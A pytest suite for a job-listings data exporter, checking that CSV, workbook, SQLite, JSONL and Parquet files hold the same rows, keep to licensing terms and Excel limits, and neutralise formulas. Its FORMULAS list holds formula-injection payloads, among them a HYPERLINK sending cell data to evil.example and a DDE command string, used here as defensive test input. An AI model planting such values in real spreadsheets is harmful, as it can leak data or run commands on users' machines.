"""The data as files: the same rows in every format, safe to open, under the boards' terms."""

import builtins
import csv
import hashlib
import io
import json
import sqlite3
import zipfile
from contextlib import closing
from datetime import timedelta
from importlib import import_module
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from lxml import etree
from msgspec.structs import replace

from jobtide.errors import ConfigError
from jobtide.model import Eligibility, Salary, UnitText
from jobtide.publish import terms
from jobtide.publish.dataset import (
    FORMATS,
    DatasetSettings,
    delimited,
    read_columnar,
    render,
    restored,
    row,
)
from jobtide.publish.dataset.columns import COLUMNS
from jobtide.publish.dataset.delimited import guarded
from jobtide.run.datasette import database
from jobtide.run.exports import KINDS
from tests.unit.publish import builders as make

#: The module, whose limits a test lowers; the package has a function of its name.
WORKBOOK = import_module("jobtide.publish.dataset.workbook")
SHEET = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "  =1",
]


def one(**words):
    """Return an opening of one posting on a board whose text may be passed on."""
    given = {"source": "greenhouse", "board": "larkspur", "description": "<p>We move.</p>"}
    return make.opening(make.posting(words.pop("identifier", "1"), **(given | words)))


def rows(*openings):
    """Return the rows of openings."""
    terms_of = terms.reader()
    return [row(opening, terms_of) for opening in openings or make.example().openings]


def table(body):
    """Return a CSV file as a list of dicts."""
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def cells(body, sheet=1):
    """Return the cells of a sheet: address -> (type, text), and the names of odd elements."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        strings = []
        if "xl/sharedStrings.xml" in book.namelist():
            shared = etree.fromstring(book.read("xl/sharedStrings.xml"))
            for item in shared.iterfind("x:si", SHEET):
                strings.append("".join(item.itertext()))
        tree = etree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
    found = {}
    for cell in tree.iterfind(".//x:c", SHEET):
        value = cell.findtext("x:v", namespaces=SHEET)
        kind = cell.get("t")
        found[cell.get("r")] = (kind, strings[int(value)] if kind == "s" else value)
    return found, tree


def lines_of(found):
    """Return the numbers of the lines that have an id."""
    return {key[1:] for key in found if key[0] == "A" and key[1:].isdigit()}


def test_every_format_has_every_row():
    """Counted in each by other means than ours."""
    found = {
        file.path: file.body
        for file in render(make.example(), DatasetSettings(formats=dict(KINDS)))
    }
    count = 6

    assert len(found["openings.jsonl"].splitlines()) == count
    assert len(table(found["openings.csv"])) == count
    assert len(lines_of(cells(found["openings.xlsx"])[0])) == count + 1
    with closing(sqlite3.connect(":memory:")) as db:
        db.deserialize(found["openings.sqlite"])
        assert db.execute("SELECT count(*) FROM openings").fetchone() == (count,)
        assert db.execute("SELECT count(*) FROM postings").fetchone() == (7,)


def test_lines_keep_to_the_schema_that_goes_with_them():
    """Each line is valid by the published JSON Schema."""
    found = {file.path: file.body for file in render(make.example(), DatasetSettings())}
    schema = Draft202012Validator(json.loads(found["openings.schema.json"]))

    for line in found["openings.jsonl"].splitlines():
        schema.validate(json.loads(line))


def test_the_manifest_tells_the_truth():
    """Counts, sizes and digests of every file; the same on a later day."""
    later = replace(make.example(), taken_at=make.NOW + timedelta(days=30))
    found = {file.path: file.body for file in render(make.example(), DatasetSettings())}
    manifest = json.loads(found["manifest.json"])

    assert found == {file.path: file.body for file in render(later, DatasetSettings())}
    assert (manifest["openings"], manifest["postings"]) == (6, 7)
    for one_file in manifest["files"]:
        body = found[one_file["path"]]
        assert one_file["bytes"] == len(body)
        assert one_file["sha256"] == hashlib.sha256(body).hexdigest()
    assert {one["attribution"] for one in manifest["sources"]} == {
        "Remote OK", "Remotive", "We Work Remotely"
    }  # fmt: skip


def test_an_empty_snapshot_gives_empty_files():
    """No opening: headers, schema and manifest are there all the same."""
    settings = DatasetSettings(formats=dict(KINDS))
    found = {file.path: file.body for file in render(make.snapshot(), settings)}

    assert found["openings.jsonl"] == b""
    assert table(found["openings.csv"]) == []
    assert json.loads(found["manifest.json"])["openings"] == 0
    assert cells(found["openings.xlsx"])[0]["A1"] == ("s", "id")


@pytest.mark.parametrize("suffix", KINDS)
def test_the_same_rows_give_the_same_bytes(suffix):
    """No file holds the moment it was made."""
    assert KINDS[suffix].write(rows()) == KINDS[suffix].write(rows())


@pytest.mark.parametrize("source", ["remotive", "weworkremotely", "jobicy", "himalayas"])
@pytest.mark.parametrize("suffix", [".jsonl", ".csv"])
def test_text_that_may_not_be_passed_on_is_in_no_file(source, suffix):
    """The canonical posting's and every other's; the credit is there."""
    mine = make.posting("1", source=source, description="<p>Kept back.</p>", text="Kept back.")
    open_one = make.posting("2", source="greenhouse", description="<p>Shared.</p>")
    for opening in (make.opening(mine, open_one), make.opening(open_one, mine)):
        body = KINDS[suffix].write(rows(opening)).decode()
        assert "Kept back" not in body
    assert terms.of_source(source).credit in KINDS[suffix].write(rows(make.opening(mine))).decode()


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_csv_is_run(formula):
    """A formula gets an apostrophe; the row keeps its width."""
    (line,) = table(delimited(rows(one(title=formula, hiring_organization=formula))))

    assert line["title"] == f"'{formula}"
    assert line["hiring_organization"] == f"'{formula}"
    assert None not in line


def test_numbers_stay_numbers():
    """-5 is no formula; typed numbers are written bare."""
    pay = Salary(currency="EUR", min_value=45.5, max_value=60000, unit_text=UnitText.YEAR)
    eligibility = Eligibility(utc_offsets=(-5.0, 1.5))
    body = delimited(rows(one(title="-5", base_salary=(pay,), eligibility=eligibility)))
    (line,) = table(body)

    assert line["title"] == "-5"
    assert [line[name] for name in ("utc_offset_min", "utc_offset_max")] == ["-5", "1.5"]
    assert b",45.5,60000," in body


@given(st.text())
def test_a_guarded_cell_begins_harmlessly(text):
    """Guarding twice adds nothing to a safe text and never loses any."""
    safe = guarded(text)

    assert safe.removeprefix("'") == text.removeprefix("'")
    assert guarded(safe) == safe


@settings(max_examples=50, deadline=None)
@given(st.text(), st.text(), st.lists(st.text(), max_size=3))
def test_any_words_keep_the_width_of_the_table(title, company, tags):
    """CSV reads back with every column; SQLite and the workbook take it."""
    found = rows(one(title=title, hiring_organization=company, tags=tuple(tags)))
    lines = list(csv.reader(io.StringIO(delimited(found).decode(), newline="")))

    assert [len(line) for line in lines] == [len(COLUMNS)] * 2
    database(found)
    etree.tostring(cells(FORMATS[".xlsx"].write(found))[1])
    json.loads(FORMATS[".jsonl"].write(found))


def test_a_mark_for_excel_is_written_when_asked():
    """Without the mark Excel takes UTF-8 for something else."""
    assert delimited(rows(one()), bom=True).startswith(b'\xef\xbb\xbf"id"')
    assert delimited(rows(one())).startswith(b'"id"')


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_workbook_is_run(formula):
    """Texts are texts: no formula element, and the cell is marked as quoted."""
    body = FORMATS[".xlsx"].write(rows(one(title=formula)))
    found, tree = cells(body)

    assert tree.find(".//x:f", SHEET) is None
    assert found["B2"][0] == "s"
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert b'quotePrefix="1"' in book.read("xl/styles.xml")


def test_a_workbook_has_dates_links_filters_and_a_frozen_header():
    """Dates are numbers with a format, addresses are links, the header stays."""
    found, tree = cells(FORMATS[".xlsx"].write(rows(one())))
    at = {name: found_at for found_at, (_, name) in found.items() if found_at.endswith("1")
          and found_at.rstrip("1").isalpha()}  # fmt: skip
    posted = found[at["date_posted"][:-1] + "2"]

    assert posted[0] is None
    assert float(posted[1]) == pytest.approx(46340.3958, abs=1e-3)
    assert tree.find(".//x:autoFilter", SHEET) is not None
    assert tree.find(".//x:pane", SHEET).get("ySplit") == "1"
    links = {node.get("ref") for node in tree.iterfind(".//x:hyperlink", SHEET)}
    assert at["url"][:-1] + "2" in links


def test_a_workbook_does_not_tell_when_it_was_made():
    """Its moment of creation is a fixed one."""
    with zipfile.ZipFile(io.BytesIO(FORMATS[".xlsx"].write(rows()))) as book:
        assert book.read("docProps/core.xml").count(b"2026-01-01T00:00:00Z") == 2


def test_a_workbook_keeps_to_excels_limits(monkeypatch):
    """Long texts are cut, too many links become text, too many rows another sheet."""
    long = one(
        source="greenhouse", description="x" * 40_000, url=f"https://a.example/{'b' * 2100}"
    )
    found, tree = cells(FORMATS[".xlsx"].write(rows(long)))
    assert max(len(text or "") for _, text in found.values()) == 32_767
    assert [node.get("ref") for node in tree.iterfind(".//x:hyperlink", SHEET)] == []

    monkeypatch.setattr(WORKBOOK, "MAX_LINKS", 4)
    monkeypatch.setattr(WORKBOOK, "MAX_ROWS", 4)
    many = rows(*(one(identifier=str(number)) for number in range(7)))
    body = FORMATS[".xlsx"].write(many)
    assert [len(lines_of(cells(body, sheet)[0])) for sheet in (1, 2, 3)] == [4, 4, 2]
    assert len(cells(body, 1)[1].findall(".//x:hyperlink", SHEET)) == 4


def test_parquet_holds_types_and_reads_back(tmp_path):
    """Times are times, lists are lists, and the rows come back as they were."""
    from pyarrow import parquet

    made = rows()
    path = tmp_path / "openings.parquet"
    path.write_bytes(FORMATS[".parquet"].write(made))
    schema = parquet.read_schema(path)
    meta = parquet.ParquetFile(path).metadata.row_group(0).column(0)

    assert str(schema.field("first_seen_at").type) == "timestamp[us, tz=UTC]"
    assert str(schema.field("skills").type).startswith("list<")
    assert meta.compression == "ZSTD"
    assert [number for number, *_ in read_columnar(path)] == [1, 2, 3, 4, 5, 6, 7]
    assert [text for *_, text in read_columnar(path)] == [one.description for one in made]


@pytest.mark.parametrize(
    ("suffix", "package", "named"),
    [(".parquet", "pyarrow", "pyarrow"), (".xlsx", "xlsxwriter", "XlsxWriter")],
)
def test_a_missing_package_says_what_to_install(monkeypatch, suffix, package, named):
    """The message names the package and the command."""
    real = builtins.__import__

    def refuse(name, *rest, **more):
        if name.partition(".")[0] == package:
            raise ImportError(name)
        return real(name, *rest, **more)

    monkeypatch.setattr(builtins, "__import__", refuse)
    with pytest.raises(ConfigError, match=rf"{named}: pip install 'jobtide\[export\]'"):
        FORMATS[suffix].write(rows())


def test_the_database_can_be_searched():
    """The text index finds words without their accents, and skills have rows of their own."""
    with closing(sqlite3.connect(":memory:")) as db:
        db.deserialize(database(rows()))
        found = db.execute(
            "SELECT hiring_organization FROM openings WHERE rowid IN"
            " (SELECT rowid FROM openings_fts WHERE openings_fts MATCH 'sohne')"
        ).fetchall()
        skills = {skill for (skill,) in db.execute("SELECT skill FROM skills")}
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)

    assert found == [("Birch & Söhne GmbH",)]
    assert skills == {"go", "postgresql", "kubernetes"}


@pytest.mark.parametrize("opening", make.example().openings, ids=lambda one: one.id)
def test_a_row_gives_back_what_it_was_made_of(opening):
    """Restored postings make the same row; only what the terms keep back is gone."""
    terms_of = terms.reader()
    before = row(opening, terms_of)
    again = restored(before)
    after = row(replace(opening, posting=again[0].posting, postings=again), terms_of)

    assert after == before
    assert [one.history for one in again] == [one.history for one in opening.postings]


def test_shared_text_comes_back_as_words_too():
    """The plain text is not in the file and is made anew from the description."""
    text = "<p>Ship &amp; own</p><ul><li>Go</li></ul>"
    (back,) = restored(rows(one(description=text, text="Ship & own\n• Go"))[0])

    assert back.posting.description == text
    assert back.posting.text == "Ship & own\n• Go"


def test_the_reference_lists_every_column():
    """docs/reference/file-formats.md says what the code does."""
    page = (Path(__file__).parents[3] / "docs/reference/file-formats.md").read_text("utf-8")

    for column in COLUMNS:
        assert f"| `{column.name}` | {column.kind} | {column.about} |" in page
